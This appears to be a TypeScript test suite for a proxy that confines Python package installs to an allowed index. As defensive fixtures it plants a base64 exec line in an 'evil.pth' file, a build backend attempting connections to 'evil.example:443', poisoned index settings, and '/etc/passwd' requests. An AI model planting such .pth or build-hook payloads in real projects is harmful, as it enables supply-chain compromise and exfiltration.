import { mkdir, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer, request as ask, type IncomingMessage } from 'node:http';
import { connect as connectTo, createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { connect as connectSafely } from 'node:tls';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { Place } from '../../../src/node/network/place';
import { openIndexProxy } from '../../../src/node/python/index-proxy/open-index-proxy';
import { findInterpreters } from '../../helpers/interpreters';
import { startLocalIndex } from '../../helpers/local-index';
import { temporaryFolder } from '../../helpers/temporary-folder';
import { createBench, lackingForInstalls, prepare, request, resolved, resourcesFolder } from './parts';

const run = promisify(execFile);
const usable = findInterpreters().filter(({ version }) => /^3\.(?:[89]|1\d)$/.test(version));
const lacks = await lackingForInstalls(usable);
const why = (text: string) => (lacks === null ? text : `${text} (skipped: ${lacks})`);

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(() => void server.close());
  return (server.address() as AddressInfo).port;
}

/** A server that is never to be reached, which counts who comes. */
async function startTrap(): Promise<{ readonly port: number; caught(): number }> {
  let caught = 0;
  const server = createServer((socket) => {
    caught += 1;
    socket.destroy();
  });
  return { port: await listening(server), caught: () => caught };
}

async function newProxy(allowed: readonly Place[], environmentBlock: Readonly<Record<string, string>> = {}) {
  const proxy = await openIndexProxy({ allowed, environmentBlock });
  onTestFinished(() => proxy.close());
  return proxy;
}

/** Asks the proxy for a tunnel. */
function tunnel(socketPath: string, path: string): Promise<{ readonly status: number; readonly socket: Socket }> {
  return new Promise((resolve, reject) => {
    const asked = ask({ socketPath, method: 'CONNECT', path });
    asked.on('connect', (answer: IncomingMessage, socket: Socket) => {
      socket.on('error', () => undefined);
      onTestFinished(() => void socket.destroy());
      resolve({ status: answer.statusCode ?? 0, socket });
    });
    asked.on('error', reject);
    asked.end();
  });
}

function plain(
  socketPath: string,
  path: string,
  headers = {},
): Promise<{ readonly status: number; readonly text: string }> {
  return new Promise((resolve, reject) => {
    const asked = ask({ socketPath, path, headers }, (answer) => {
      let text = '';
      answer.on('data', (bytes: Buffer) => (text += bytes.toString()));
      answer.on('end', () => resolve({ status: answer.statusCode ?? 0, text }));
    });
    asked.on('error', reject);
    asked.end();
  });
}

describe('the proxy of the package index', () => {
  it('lets through to the index, by a tunnel and plainly', async () => {
    const greetings: Buffer[] = [];
    const secure = await listening(createServer((socket) => socket.on('data', (bytes) => greetings.push(bytes))));
    const web = createHttpServer((asked, answer) => answer.end(`${asked.headers.host} ${asked.url}`));
    const port = await listening(web);
    const proxy = await newProxy([
      { host: 'localhost', port: secure },
      { host: '127.0.0.1', port },
    ]);
    const { status, socket } = await tunnel(proxy.socket, `localhost:${secure}`);
    expect(status).toBe(200);
    connectSafely({ socket, servername: 'localhost' }).on('error', () => undefined);
    await expect.poll(() => greetings[0]?.[0], { timeout: 30_000 }).toBe(22);
    expect(await plain(proxy.socket, `http://127.0.0.1:${port}/simple/six/?a=b`)).toEqual({
      status: 200,
      text: `127.0.0.1:${port} /simple/six/?a=b`,
    });
    expect(proxy.refused()).toEqual([]);
  });

  it('refuses every other place, and says which', async () => {
    const trap = await startTrap();
    const allowed = await startTrap();
    const proxy = await newProxy([{ host: 'localhost', port: allowed.port }]);
    const places = [
      ...[`127.0.0.1:${trap.port}`, `localhost:${trap.port}`, `localhost.evil.example:${allowed.port}`],
      ...[`evil-localhost:${allowed.port}`, `localhost@127.0.0.1:${trap.port}`, `127.0.0.1:${allowed.port}`],
    ];
    for (const place of places) expect((await tunnel(proxy.socket, place)).status, place).toBe(403);
    for (const path of [
      `http://127.0.0.1:${trap.port}/`,
      '/etc/passwd',
      'file:///etc/passwd',
      `https://localhost:${allowed.port}/`,
    ]) {
      expect((await plain(proxy.socket, path, { host: `localhost:${allowed.port}` })).status, path).toBe(403);
    }
    expect(proxy.refused()).toEqual(expect.arrayContaining([`127.0.0.1:${trap.port}`, `localhost:${trap.port}`]));
    expect(trap.caught() + allowed.caught()).toBe(0);
  });

  it('ends a tunnel to the index in which another name is asked for, or none', async () => {
    const received: Buffer[] = [];
    const port = await listening(createServer((socket) => socket.on('data', (bytes) => received.push(bytes))));
    const proxy = await newProxy([{ host: 'localhost', port }]);
    for (const servername of ['other.example', '']) {
      const { socket } = await tunnel(proxy.socket, `localhost:${port}`);
      const secure = connectSafely({ socket, servername });
      await new Promise<void>((resolve) => {
        secure.on('error', () => undefined);
        secure.on('close', () => resolve());
      });
    }
    const { socket } = await tunnel(proxy.socket, `localhost:${port}`);
    socket.write('GET / HTTP/1.1\r\nHost: other.example\r\n\r\n');
    await new Promise<void>((resolve) => socket.on('close', () => resolve()));
    expect(received).toEqual([]);
    expect(proxy.refused()).toContain('other.example');
  });

  it('goes through the proxy of the user, with the password that stays outside', async () => {
    const asked: string[] = [];
    const port = await listening(
      createServer((socket) => {
        socket.on('error', () => undefined);
        socket.once('data', (bytes) => {
          asked.push(bytes.toString());
          socket.write('HTTP/1.1 200 OK\r\n\r\nfirst');
        });
      }),
    );
    const block = { HTTPS_PROXY: `http://me:secret@127.0.0.1:${port}` };
    const proxy = await newProxy([{ host: '127.0.0.1', port: 9 }], block);
    const { status, socket } = await tunnel(proxy.socket, '127.0.0.1:9');
    expect(status).toBe(200);
    socket.write('hello');
    const first = await new Promise<string>((resolve) => socket.once('data', (bytes) => resolve(bytes.toString())));
    expect(first).toBe('first');
    const secret = Buffer.from('me:secret').toString('base64');
    expect(asked[0]).toBe(
      `CONNECT 127.0.0.1:9 HTTP/1.1\r\nHost: 127.0.0.1:9\r\nProxy-Authorization: Basic ${secret}\r\n\r\n`,
    );
  });

  it('says what it could not reach, and leaves nothing behind', async () => {
    const proxy = await openIndexProxy({ allowed: [{ host: '127.0.0.1', port: 9 }], environmentBlock: {} });
    expect((await tunnel(proxy.socket, '127.0.0.1:9')).status).toBe(502);
    expect((await plain(proxy.socket, 'http://127.0.0.1:9/')).status).toBe(502);
    expect(proxy.unreached()).toEqual(['127.0.0.1:9']);
    await proxy.close();
    await expect(
      new Promise((resolve, reject) => connectTo(proxy.socket).on('connect', resolve).on('error', reject)),
    ).rejects.toThrow();
  });
});

const forwarder = join(resourcesFolder, 'python', 'forward_index.py');
const all = findInterpreters();

describe('the forwarder', () => {
  it.skipIf(all.length === 0)(
    `leads a program to the proxy with ${all.map(({ version }) => version).join(', ')}`,
    async () => {
      const port = await listening(createHttpServer((_, answer) => answer.end('z'.repeat(300_000))));
      const proxy = await newProxy([{ host: '127.0.0.1', port }]);
      const code = [
        'import os, socket, sys',
        'host, port = os.environ["HTTPS_PROXY"].rsplit("/", 1)[1].split(":")',
        'one = socket.create_connection((host, int(port)), 30)',
        `one.sendall(b"GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")`,
        'count = 0',
        'while True:',
        '    data = one.recv(65536)',
        '    if not data: break',
        '    count += data.count(b"z")',
        'sys.stdout.write("%d %s" % (count, os.environ.get("NO_PROXY")))',
        'sys.exit(3)',
      ].join('\n');
      for (const { python, version } of all) {
        const ran = run(python, ['-S', '-E', forwarder, proxy.socket, python, '-c', code], { env: { NO_PROXY: '*' } });
        await expect(ran, version).rejects.toMatchObject({ code: 3, stdout: '300000 None' });
      }
    },
  );
});

/** Python that tries every way out that it can think of, and never fails. */
function wayOut(port: number): string {
  return [
    'import os, socket',
    'def attempt(work):',
    '    try: work()',
    '    except Exception: pass',
    `target = ("127.0.0.1", ${port})`,
    'attempt(lambda: socket.create_connection(target, 5).sendall(b"x"))',
    'def through(text):',
    '    host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].split(":")',
    '    one = socket.create_connection((host, int(port)), 5)',
    '    one.sendall(text.encode()); one.recv(100); one.close()',
    `attempt(lambda: through("CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))`,
    `attempt(lambda: through("GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"))`,
    'attempt(lambda: through("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))',
  ].join('\n');
}

describe('an installation reaches the package index alone', () => {
  it.skipIf(lacks !== null)(why('and no .pth file of a virtual environment is run at all'), async () => {
    const trap = await startTrap();
    const index = await startLocalIndex({ wheels: [{ name: 'six', version: '1.0' }] });
    const prefix = join(await temporaryFolder(), 'hostile');
    const { python, version } = usable.at(-1) ?? { python: '', version: '' };
    await run(python, ['-m', 'venv', '--without-pip', prefix]);
    const code = Buffer.from(wayOut(trap.port)).toString('base64');
    const line = `import base64; exec(base64.b64decode("${code}"), {})\n`;
    await writeFile(join(prefix, 'lib', `python${version}`, 'site-packages', 'evil.pth'), line);
    const bench = createBench({ dataFolder: await temporaryFolder(), index: index.url });
    onTestFinished(() => bench.environments.close());
    const resolution = await resolved(bench, request(['six'], { python: join(prefix, 'bin', 'python') }));
    expect(await prepare(bench, resolution)).toMatchObject({ kind: 'ready', environment: { lock: 'six==1.0\n' } });
    const shown = await bench.shown('terminal-1');
    expect(shown).not.toContain('Refused');
    expect(shown).not.toContain('evil.example');
    expect(trap.caught()).toBe(0);
    expect(index.asked()).toContain('/simple/six/');
  });

  it.skipIf(lacks !== null)(why('whatever the build of a package tries'), async () => {
    const trap = await startTrap();
    const folder = await temporaryFolder();
    await mkdir(join(folder, 'gast-0.3'));
    const write = (name: string, text: string) => writeFile(join(folder, 'gast-0.3', name), text);
    await write('PKG-INFO', 'Metadata-Version: 1.1\nName: gast\nVersion: 0.3\n');
    await write('pyproject.toml', '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n');
    const wheel = [
      'import os, zipfile',
      'def build_wheel(folder, settings=None, metadata=None):',
      '    name = "gast-0.3-py3-none-any.whl"',
      '    with zipfile.ZipFile(os.path.join(folder, name), "w") as out:',
      '        out.writestr("gast.py", "")',
      '        out.writestr("gast-0.3.dist-info/METADATA", "Metadata-Version: 2.1\\nName: gast\\nVersion: 0.3\\n")',
      '        out.writestr("gast-0.3.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")',
      '        out.writestr("gast-0.3.dist-info/RECORD", "")',
      '    return name',
    ];
    await write('backend.py', `${wayOut(trap.port)}\n${wheel.join('\n')}\n`);
    const { stdout: content } = await run('tar', ['-C', folder, '-czf', '-', 'gast-0.3'], { encoding: 'buffer' });
    const index = await startLocalIndex({ files: [{ name: 'gast', file: 'gast-0.3.tar.gz', content }] });
    const bench = createBench({ dataFolder: await temporaryFolder(), index: index.url });
    onTestFinished(() => bench.environments.close());
    const prepared = await prepare(bench, await resolved(bench, request(['gast'])));
    expect(prepared).toMatchObject({ kind: 'ready', environment: { lock: 'gast==0.3\n' } });
    expect(await bench.shown('terminal-1')).toMatch(/Refused, as it is not the package index: .*evil\.example:443/);
    expect(trap.caught()).toBe(0);
  });

  it.skipIf(lacks !== null)(
    why('whatever the project, the home and the user’s variables name as an index'),
    async () => {
      const trap = await startTrap();
      const evil = `http://127.0.0.1:${trap.port}/simple`;
      const project = await temporaryFolder();
      const homeFolder = await temporaryFolder();
      await writeFile(
        join(project, 'pyproject.toml'),
        `[project]\nname = "mine"\ndependencies = ["six", "tqdm @ ${evil}/tqdm-1.0-py3-none-any.whl"]\n[tool.uv]\nindex-url = "${evil}"\nextra-index-url = ["${evil}"]\nfind-links = ["${evil}"]\n[[tool.uv.index]]\nname = "evil"\nurl = "${evil}"\ndefault = true\n[tool.uv.sources]\nsix = { index = "evil" }\n`,
      );
      await writeFile(join(project, 'uv.toml'), `index-url = "${evil}"\n`);
      await writeFile(
        join(project, 'requirements.txt'),
        [
          `--index-url ${evil}`,
          `--extra-index-url=${evil}`,
          `-i ${evil}`,
          `--find-links ${evil}`,
          `-f ${evil}`,
          `-e git+${evil}/mine.git#egg=mine`,
          `git+${evil}/other.git`,
          `${evil}/six-9.0-py3-none-any.whl`,
          '-e .',
          'attrs',
        ].join('\n'),
      );
      await mkdir(join(homeFolder, '.config', 'uv'), { recursive: true });
      await writeFile(join(homeFolder, '.config', 'uv', 'uv.toml'), `index-url = "${evil}"\n`);
      await mkdir(join(homeFolder, '.pip'));
      await writeFile(join(homeFolder, '.pip', 'pip.conf'), `[global]\nindex-url = ${evil}\n`);
      const index = await startLocalIndex({
        wheels: ['six', 'attrs'].map((name) => ({ name, version: '1.0' })),
      });
      const block = {
        ...process.env,
        UV_INDEX: evil,
        UV_EXTRA_INDEX_URL: evil,
        UV_FIND_LINKS: evil,
        PIP_INDEX_URL: evil,
      };
      const interpreters = { REPRISE_PYTHON_FOLDERS: join(usable.at(-1)?.python ?? '', '..') };
      const bench = createBench({
        dataFolder: await temporaryFolder(),
        homeFolder,
        block: { ...block, ...interpreters },
        index: index.url,
      });
      onTestFinished(() => bench.environments.close());
      const resolution = await resolved(bench, request([], { project }));
      expect(resolution.leftOut?.map(({ why: reason }) => reason)).toEqual(
        expect.arrayContaining(['index', 'editable', 'address', 'link']),
      );
      const prepared = await prepare(bench, resolution);
      expect(prepared).toMatchObject({ kind: 'ready', environment: { lock: 'attrs==1.0\nsix==1.0\n' } });
      expect(trap.caught()).toBe(0);
    },
  );

  it.skipIf(lacks !== null)(why('and says what to do where the index keeps its files elsewhere'), async () => {
    const files = await startTrap();
    const page = `<a href="http://localhost:${files.port}/six-1.0-py3-none-any.whl">six-1.0-py3-none-any.whl</a>`;
    const port = await listening(
      createHttpServer((_, answer) => {
        answer.setHeader('Content-Type', 'text/html');
        answer.end(`<!DOCTYPE html><html><body>${page}</body></html>`);
      }),
    );
    const bench = createBench({ dataFolder: await temporaryFolder(), index: `http://127.0.0.1:${port}/simple` });
    onTestFinished(() => bench.environments.close());
    const prepared = await prepare(bench, await resolved(bench, request(['six'])));
    expect(prepared).toMatchObject({ kind: 'failed', failure: { kind: 'elsewhere' } });
    if (prepared.kind === 'failed') expect(prepared.failure.message).toMatch(/localhost:\d+.*packageHosts/);
    expect(files.caught()).toBe(0);
  });
});
